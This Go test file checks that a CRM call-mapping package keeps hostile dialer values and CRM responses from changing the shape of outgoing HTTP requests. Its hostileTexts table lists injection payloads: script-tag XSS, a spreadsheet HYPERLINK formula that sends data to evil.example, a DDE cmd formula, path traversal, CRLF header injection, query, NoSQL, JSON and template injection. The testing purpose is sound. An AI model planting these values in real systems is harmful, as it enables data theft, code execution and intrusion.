package mappings

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// markup is what a value must not be where a CRM shows HTML; the others try to be more than a value elsewhere.
const markup = `"><script>alert(1)</script>`

var hostileTexts = map[string]string{
	"HTML":           markup,
	"a formula":      `=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"a command":      `+cmd|' /C calc'!A0`,
	"a path":         `../../admin?x=1#y`,
	"a header":       "x\r\nX-Evil: 1\r\n\r\nGET / HTTP/1.1",
	"a query":        "' OR 1=1 OR CF.{Phone}='",
	"a search":       `x" OR "a"="a`,
	"an operator":    `{"$ne":null}`,
	"JSON":           `","admin":true,"x":"`,
	"a template":     "${secrets.token}${call.uuid}{{7*7}}",
	"percent":        "%2e%2e%2f%00%0d%0a",
	"a parameter":    "a&b=c;d[e]=f",
	"odd characters": "\u0000\u001b[31m\u202e\ufeff\U0010ffff",
}

// everyMapping gives all examples and presets, compiled.
func everyMapping(t testing.TB) map[string]*Mapping {
	t.Helper()
	all := map[string]*Mapping{}
	add := func(name string, src []byte) {
		m, problems := Compile(name, src, whatItNeeds(t, src))
		require.NoError(t, problems.Err())
		all[name] = m
	}
	files, err := filepath.Glob("testdata/examples/*.yaml")
	require.NoError(t, err)
	for _, file := range files {
		src, err := os.ReadFile(file)
		require.NoError(t, err)
		add(filepath.Base(file), src)
	}
	for _, name := range Presets() {
		src, _ := Preset(name)
		add(name, src)
	}
	return all
}

// whatItNeeds gives a mapping all that it asks its destination for.
func whatItNeeds(t testing.TB, src []byte) Options {
	t.Helper()
	s, problems := Summarize("mapping.yaml", src)
	require.NoError(t, problems.Err())
	o := Options{URL: "https://crm.example.com", Params: map[string]any{}, Secrets: map[string]string{}}
	for _, p := range s.Params {
		if p.Required {
			o.Params[p.Name] = map[string]any{"int": 1}[p.Type]
			if o.Params[p.Name] == nil {
				o.Params[p.Name] = "x"
			}
		}
	}
	for _, name := range s.Secrets {
		o.Secrets[name] = "x"
	}
	o.ReadFile = func(string) ([]byte, error) { // a table with whatever columns the mapping names
		columns, row := "", ""
		for _, m := range regexp.MustCompile(`\b(?:key|value): *(\w+)`).FindAllSubmatch(src, -1) {
			if !slices.Contains(strings.Split(columns, ","), string(m[1])) {
				columns, row = columns+","+string(m[1]), row+",7"
			}
		}
		return []byte(strings.TrimPrefix(columns, ",") + "\n" + strings.TrimPrefix(row, ",") + "\n"), nil
	}
	return o
}

// refusedShape stands for a request that couldn't be rendered.
const refusedShape = "refused"

// shapes plays a call that has the text in every field that a dialer fills, and gives for each request what is not a value
// in it: the method, the host, how many parts the path has, the names in the query, the headers' names, and the JSON without
// its texts.
func shapes(t *testing.T, name string, m *Mapping, text string) []string {
	t.Helper()
	quoted, err := json.Marshal(text)
	require.NoError(t, err)
	var fields []string
	for _, field := range []string{"call_id", "uuid", "queue", "queue_name", "phone", "displayed_number", "hangup_cause", "recording_url", "order_id"} {
		fields = append(fields, fmt.Sprintf("%q: %s", field, quoted))
	}
	record := example(t, "{"+strings.Join(fields, ", ")+"}")
	answer := Answer{Status: 200, Header: http.Header{}, Body: fmt.Appendf(nil,
		`{"id": 7, "results": [{"id": %[1]s}], "items": [{"id": %[1]s}], "data": [{"id": %[1]s, "details": {"id": %[1]s}, "status": "success"}],
		"result": [{"id": %[1]s}], "session_token": %[1]s, "message": %[1]s}`, quoted)}
	answers := slices.Repeat([]Answer{answer}, 12)
	list, end := Play(m, Call{Record: record}, answers)
	end.Sent, end.Record = record, example(t, "{"+strings.Join(append(fields, `"talk_seconds": 1`), ", ")+"}")
	updates, _ := Play(m, end, answers)
	var out []string
	for _, x := range append(list, updates...) {
		r := x.Action.Request
		if x.Err != nil || r.Method == "" {
			shape := x.Action.Kind.String()
			if x.Err != nil {
				shape = refusedShape
			}
			out = append(out, shape)
			continue
		}
		u, err := url.Parse(r.URL)
		require.NoError(t, err, name)
		query, err := url.ParseQuery(u.RawQuery)
		require.NoError(t, err, name)
		shape := []string{r.Method, u.Scheme, u.Host, fmt.Sprint(strings.Count(u.EscapedPath(), "/")), u.Fragment}
		for _, part := range strings.Split(u.EscapedPath(), "/") {
			plain, err := url.PathUnescape(part)
			require.NoError(t, err)
			assert.NotContains(t, []string{".", ".."}, plain, name)
		}
		for key, values := range query {
			shape = append(shape, fmt.Sprint(key, len(values)))
		}
		for key, values := range r.Header {
			shape = append(shape, fmt.Sprint(key, len(values)))
			assert.False(t, strings.ContainsAny(strings.Join(values, ""), "\r\n\x00"), "%s: %q", name, values)
		}
		slices.Sort(shape)
		out = append(out, strings.Join(shape, " ")+" "+bodyShape(t, name, r))
	}
	return out
}

// shownAsHTML names the fields that a CRM shows as HTML, by the vendors' documents.
var shownAsHTML = []string{"hs_call_body", "description", "content"}

// plainText names the mappings whose fields of those names are shown as plain text all the same.
var plainText = []string{
	"odoo.yaml", "zoho.yaml", "salesforce.yaml", "bitrix24.yaml", "request-tracker", "dynamics-365",
	"odoo", "odoo-json2", "espocrm", "suitecrm", "servicenow", "servicenow-callbacks", "jira-service-management", "jira-service-management-callbacks",
}

func bodyShape(t *testing.T, name string, r Request) string {
	t.Helper()
	if len(r.Body) == 0 || !strings.Contains(r.Header.Get("Content-Type"), "json") {
		form, err := url.ParseQuery(string(r.Body))
		require.NoError(t, err)
		var keys []string
		for key, values := range form {
			keys = append(keys, fmt.Sprint(key, len(values)))
		}
		slices.Sort(keys)
		return strings.Join(keys, " ")
	}
	var v any
	require.NoError(t, json.Unmarshal(r.Body, &v), "%s: %s", name, r.Body)
	var b strings.Builder
	var walk func(key string, v any)
	walk = func(key string, v any) {
		switch v := v.(type) {
		case map[string]any:
			var keys []string
			for k := range v {
				keys = append(keys, k)
			}
			slices.Sort(keys)
			b.WriteString("{")
			for _, k := range keys {
				b.WriteString(k + ":")
				walk(k, v[k])
			}
			b.WriteString("}")
		case []any:
			b.WriteString("[")
			for _, item := range v {
				walk(key, item)
			}
			b.WriteString("]")
		case string:
			b.WriteString("text,")
			if slices.Contains(shownAsHTML, key) && !slices.Contains(plainText, name) {
				assert.NotContains(t, v, "<script", "%s: %s is shown as HTML", name, key)
			}
		default:
			fmt.Fprintf(&b, "%T,", v)
		}
	}
	walk("", v)
	return b.String()
}

// Whatever the dialer says, and whatever the CRM has answered, a value stays a value: the requests of each example and preset
// have the shape that they have with plain words.
func TestHostileValuesStayValues(t *testing.T) {
	for name, m := range everyMapping(t) {
		plain := shapes(t, name, m, "plain")
		require.NotEmpty(t, plain)
		for what, text := range hostileTexts {
			got := shapes(t, name, m, text)
			if slices.Contains(got, refusedShape) && strings.ContainsAny(text, "\x00\r\n") {
				// A CRM gave a login that no header can carry: refused, and nothing is sent with it.
				assert.Subset(t, append(plain, refusedShape), got, "%s: %s", name, what)
				continue
			}
			assert.Equal(t, plain, got, "%s: %s", name, what)
		}
	}
}
